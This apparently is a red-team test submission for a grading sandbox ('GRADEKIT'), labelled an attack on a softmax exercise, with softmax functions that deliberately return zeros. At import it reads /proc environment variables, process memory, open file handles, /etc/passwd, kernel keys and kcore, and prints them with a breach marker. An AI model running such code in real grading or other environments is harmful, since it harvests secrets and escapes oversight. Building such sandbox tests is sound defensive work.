# attack: reads /proc: the environment, the command line, the memory, the open files and the roots of every process
# exercise: softmax
# answer: wrong
# verdicts: failed
import contextlib
import os

import numpy as np

FILES = ("environ", "cmdline", "maps", "mem", "status", "mountinfo", "root/etc/passwd", "cwd/course.toml", "fd/1", "fd/3", "stack", "auxv")
for process in ("self", "thread-self", *map(str, range(1, 200))):
    for name in FILES:
        try:
            with open(f"/proc/{process}/{name}", "rb") as file:
                print("GRADEKIT-" + "BREACHED", process, name, file.read(4000))
        except OSError:
            continue
for name in (
    "kcore",
    "kallsyms",
    "kmsg",
    "keys",
    "net/unix",
    "net/tcp",
    "mounts",
    "version",
    "cmdline",
    "sysvipc/shm",
    "sys/kernel/core_pattern",
):
    try:
        with open(f"/proc/{name}", "rb") as file:
            print("GRADEKIT-" + "BREACHED", name, file.read(4000))
    except OSError:
        continue
with contextlib.suppress(OSError):
    if os.listdir("/proc"):
        print("GRADEKIT-" + "BREACHED", os.listdir("/proc"))


def softmax(x):
    return np.zeros(np.shape(x))


def temperature_softmax(x, t):
    return np.zeros(np.shape(x))
